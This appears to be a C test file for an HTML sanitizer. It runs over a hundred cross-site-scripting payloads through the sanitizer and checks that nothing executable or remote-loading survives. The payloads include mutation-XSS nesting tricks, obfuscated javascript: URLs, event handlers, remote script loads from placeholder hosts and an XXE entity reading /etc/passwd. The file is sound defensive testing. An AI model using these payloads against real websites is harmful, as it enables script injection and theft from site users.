/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Attacks on the sanitizer, judged by html_check.h. With operands: the
 * files named are sanitized instead, each as a whole.
 */
#include <stdlib.h>
#include <string.h>

#include "base/alloc.h"
#include "base/io.h"
#include "html/html.h"

#include "../lib/html_check.h"
#include "tap.h"

#define OUT_MAX ((size_t)256 << 20)

/* Sanitize and judge; with clear set not even the text may have it. */
static void
attack(const char *html, size_t len, const char *name, const char *clear)
{
	struct mp_buf safe = MP_BUF_INIT(OUT_MAX);
	struct mp_err err = MP_ERR_INIT;
	char *breach = NULL, *label = mp_strdup(name), *c;

	if (mp_html_sanitize(&safe, html, len, true, &err) != MP_OK)
		breach = mp_strdup(err.text);
	else
		breach = html_check(mp_buf_text(&safe), safe.len);
	if (breach == NULL && clear != NULL &&
	    strstr(mp_buf_text(&safe), clear) != NULL)
		breach = mp_strdup(mp_buf_text(&safe));
	for (c = label; *c != '\0'; c++)
		if (*c < ' ' || *c == '#')
			*c = '.';
	ok(breach == NULL, "%s%s%s", label, breach != NULL ? ": " : "",
	    breach != NULL ? breach : "");
	free(label);
	free(breach);
	mp_buf_clear(&safe);
}

static void
attack_text(const char *html, const char *clear)
{
	attack(html, strlen(html), html, clear);
}

/* Code as content, as mutation, as what a parser mends into code. */
static const char *const codes[] = {
	"<script>alert(1)</script>",
	"<SCRIPT/x>alert(1)</SCRIPT >",
	"<script\n>alert(1)</script\n>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<<script>alert(1)//<</script>",
	"<script>alert(1)",
	"<script src=//e.example/x.js></script>",
	"<script src=data:,alert(1)></script>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><script>alert&#40;1&#41;</script>",
	"<svg><script xlink:href=data:,alert(1) />",
	"<svg/onload=alert(1)>",
	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><set attributeName=href to=javascript:alert(1)>",
	"<svg><use href=data:image/svg+xml,x>",
	"<svg><foreignObject><body onload=alert(1)></foreignObject>",
	"<svg><style><img src=x onerror=alert(1)></style>",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<svg><desc><noscript>&lt;/noscript><style><a title=\"</style>"
	    "<img src onerror=alert(1)>\">",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
	    "&lt;img src=1 onerror=alert(1)&gt;\">",
	"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg>"
	    "<mtext><textarea><a title=\"</textarea><img src=x "
	    "onerror=alert(1)>\">",
	"<math href=javascript:alert(1)>x</math>",
	"<math><maction actiontype=statusline xlink:href=javascript:x>y",
	"<math><annotation-xml encoding=text/html><script>x</script>",
	"<form><math><mtext></form><form><mglyph><style></math><img src "
	    "onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
	"<title><img title=\"</title><img src=x onerror=alert(1)>\">",
	"<style><img title=\"</style><img src=x onerror=alert(1)>\">",
	"<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
	"<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
	"<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
	"<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
	"<plaintext><img src=x onerror=alert(1)>",
	"<listing>&lt;img src=x onerror=alert(1)></listing>",
	"<template><script>alert(1)</script></template>",
	"<template><img src=x onerror=alert(1)>",
	"<select><script>alert(1)</script><style><img src=x onerror=x>",
	"<select><option><img src=x onerror=alert(1)></select>",
	"<table><script>alert(1)</script><tr><td onclick=alert(1)>",
	"<table background=javascript:alert(1)><td background=x>",
	"<a><table><a onclick=x><script>y</script>",
	"<!--><script>alert(1)</script>-->",
	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	"<!-- --!><img src=x onerror=alert(1)> -->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
	"<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=x>",
	"<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
	"<! foo=\"[[[Inception]]\"><x foo=\"]foo><script>alert(1)</script>",
	"</ foo=\"><img src=x onerror=alert(1)>\">",
	"<img \"\"\"><script>alert(1)</script>\">",
	"<img src=`x` onerror=alert(1)>",
	"<img src=x:alert(1) onerror=eval(src)>",
	"<img/src=x/onerror=alert(1)>",
	"<img\fsrc=x\fonerror=alert(1)>",
	"<img src=x\" onerror=\"alert(1)",
	"<p title='\"><img src=x onerror=alert(1)>'>t",
	"<p title=\"`><img src=x onerror=alert(1)>\">t",
	"<img alt=\"``onerror=alert(1)\">",
	"<a title=\"&quot;&gt;&lt;script&gt;\">t</a>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&amp;lt;script&amp;gt;", "\xc0\xbcscript\xc0\xbe", "+ADw-script+AD4-",
	"%3Cscript%3E", "\xef\xbc\x9cscript\xef\xbc\x9e",
	"<scr\xef\xbb\xbfipt>alert(1)</scr\xef\xbb\xbfipt>",
	"<base href=//e.example/>", "<base target=x>",
	"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
	"<meta http-equiv=refresh content=\"0;url=//e.example\">",
	"<meta http-equiv=Set-Cookie content=x>",
	"<link rel=stylesheet href=//e.example/x.css>",
	"<link rel=import href=x>", "<link rel=dns-prefetch href=//e.example>",
	"<style>@import '//e.example/x.css';</style>",
	"<style>body{background:url(//e.example)}</style>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<object data=x><param name=src value=y></object>",
	"<embed src=x.swf allowscriptaccess=always>",
	"<applet code=x archive=y></applet>",
	"<form action=//e.example><input name=p type=password><button>x",
	"<isindex action=javascript:alert(1) type=image>",
	"<input type=image src=x onerror=alert(1)>",
	"<input autofocus onfocus=alert(1)>",
	"<button formaction=javascript:alert(1)>x",
	"<keygen autofocus onfocus=alert(1)>",
	"<frameset onload=alert(1)><frame src=x></frameset>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<bgsound src=javascript:alert(1)>", "<layer src=x></layer>",
	"<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>",
	"<x-element onclick=x is=y>t</x-element>",
	"<slot name=x>t</slot><portal src=x></portal>",
	"<dialog open onclose=x>t</dialog><menuitem onclick=x>",
	"<p id=location name=body class=x is=y slot=z part=q>clobber",
	"<a name=x id=y><img name=getElementById>",
	"<a target=_top ping=//e.example download href=https://a.example>t",
	"<a href=https://a.example rel=opener target=_self>t",
	"<div contenteditable autofocus tabindex=0 accesskey=x>t</div>",
	"<div style=\"position:fixed;top:0;left:0\">cover</div>",
	"<p style=\"x:expression(alert(1))\">t",
	"<p style=\"width:e/**/xpression(alert(1))\">t",
	"<p style=\"color:\\65xpression(1)\">t",
	"<p style=\"behavior:url(x.htc);-moz-binding:url(x)\">t",
	"<p style=\"color:red&#x3b;position:fixed\">t",
	"<p style='color:red}body{display:block'>t",
	"<p style=\"margin:-99px;margin-top:-.5em\">t",
	"<p style=\"color:red;/*\">t<p style=\"*/position:fixed\">u",
	"<p style=\"font-family:'x';content:'y'\">t"
};

static void
test_codes(void)
{
	size_t i;

	for (i = 0; i < sizeof codes / sizeof *codes; i++)
		attack_text(codes[i], NULL);
}

/* Each way to write a scheme that runs code, in each place for a URL. */
static void
test_schemes(void)
{
	static const char *const urls[] = {
		"javascript:alert(1)", "JaVaScRiPt:alert(1)",
		" &#1; javascript:alert(1)", "java&#9;script:alert(1)",
		"java&#10;script:alert(1)", "java&NewLine;script:alert(1)",
		"javascript&colon;alert(1)", "javascript&#58;alert(1)",
		"&#106;&#97;vascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
		"&#0000106avascript:alert(1)", "javascript://x%0aalert(1)",
		"\x01javascript:alert(1)", "vbscript:x", "livescript:x",
		"mocha:x", "data:text/html,<script>x</script>",
		"data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,x",
		"file:///etc/passwd", "blob:x", "about:blank", "view-source:x",
		"jar:http://e.example/x!/y", "feed:javascript:x", "ftp://x",
		"http:javascript:alert(1)", "http:\\\\e.example", "https:///",
		"cid:\"onerror=x", "cid:a b", "mhtml:http://x", "mailto"
	};
	static const char *const places[] = {
		"<a href=\"%s\">t</a>", "<img src=\"%s\">",
		"<img src=x srcset=\"%s 2x\">", "<iframe src=\"%s\"></iframe>",
		"<form action=\"%s\">t", "<td background=\"%s\">",
		"<body background=\"%s\">", "<p style=\"background:url(%s)\">t"
	};
	char html[300];
	size_t i, k;

#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
	for (i = 0; i < sizeof urls / sizeof *urls; i++)
		for (k = 0; k < sizeof places / sizeof *places; k++) {
			(void)snprintf(html, sizeof html, places[k], urls[i]);
			attack_text(html, NULL);
		}
#pragma GCC diagnostic pop
}

/* Whatever a browser would load: no trace of where it lies may stay. */
static void
test_remote(void)
{
	static const char *const loads[] = {
		"<img src=//r.example/x>", "<img srcset='//r.example/x 2x'>",
		"<img src=cid:a srcset=//r.example/x lowsrc=//r.example>",
		"<picture><source srcset=//r.example/x><img></picture>",
		"<video src=//r.example/x poster=//r.example/y></video>",
		"<audio src=//r.example/x></audio>",
		"<video><track src=//r.example/x></video>",
		"<input type=image src=//r.example/x>",
		"<body background=//r.example/x>t",
		"<table background=//r.example/x><tr><td>t</table>",
		"<p style='background:url(//r.example/x)'>t",
		"<p style='background-image:url(\"//r.example/x\")'>t",
		"<p style='list-style-image:url(//r.example)'>t",
		"<p style='content:url(//r.example);cursor:url(//r.example)'>",
		"<p style='border-image:url(//r.example/x)'>t",
		"<p style='background:\\75rl(//r.example/x)'>t",
		"<p style='background:image-set(\"//r.example/x\" 1x)'>t",
		"<style>@font-face{src:url(//r.example/x)}</style>",
		"<style>@import url(//r.example/x);</style>",
		"<link rel=stylesheet href=//r.example/x>",
		"<link rel=icon href=//r.example/x>",
		"<link rel=preconnect href=//r.example>",
		"<meta http-equiv=refresh content='0;//r.example/x'>",
		"<base href=//r.example/><img src=x>",
		"<iframe src=//r.example/x></iframe>",
		"<frameset><frame src=//r.example/x></frameset>",
		"<object data=//r.example/x></object>",
		"<embed src=//r.example/x>", "<bgsound src=//r.example/x>",
		"<svg><image href=//r.example/x /></svg>",
		"<svg><use xlink:href=//r.example/x /></svg>",
		"<svg><filter><feImage href=//r.example/x /></filter></svg>",
		"<blockquote cite=//r.example/x>t</blockquote>",
		"<img longdesc=//r.example usemap=//r.example dynsrc=//r.example>",
		"<a ping=//r.example/x>t</a>", "<html manifest=//r.example/x>",
		"<script src=//r.example/x></script>",
		"<form action=//r.example/x><button formaction=//r.example/y>"
	};
	size_t i;

	for (i = 0; i < sizeof loads / sizeof *loads; i++)
		attack_text(loads[i], "r.example");
}

static void
test_events(void)
{
	static const char *const events[] = {
		"onclick", "onload", "onerror", "onmouseover", "onfocus",
		"ONCLICK", "onanimationstart", "ontoggle", "onpointerenter",
		"on", "data-x", "xmlns:on", "xlink:href", "formaction"
	};
	static const char *const holders[] = {
		"a", "b", "img", "p", "td", "div", "font", "body", "br", "li"
	};
	char html[200];
	size_t i, k;

	for (i = 0; i < sizeof events / sizeof *events; i++)
		for (k = 0; k < sizeof holders / sizeof *holders; k++) {
			(void)snprintf(html, sizeof html,
			    "<table><tr><%s %s=alert(1) x/%s='y'>t",
			    holders[k], events[i], events[i]);
			attack_text(html, "alert");
		}
}

int
main(int argc, char *argv[])
{
	int i;

	for (i = 1; i < argc; i++) {
		struct mp_buf html = MP_BUF_INIT((size_t)32 << 20);
		struct mp_err err = MP_ERR_INIT;

		if (mp_path_read(&html, argv[i], &err) != MP_OK)
			ok(false, "%s", err.text);
		else
			attack(mp_buf_text(&html), html.len, argv[i], NULL);
		mp_buf_clear(&html);
	}
	if (argc < 2) {
		test_codes();
		test_schemes();
		test_remote();
		test_events();
	}
	return done_testing();
}
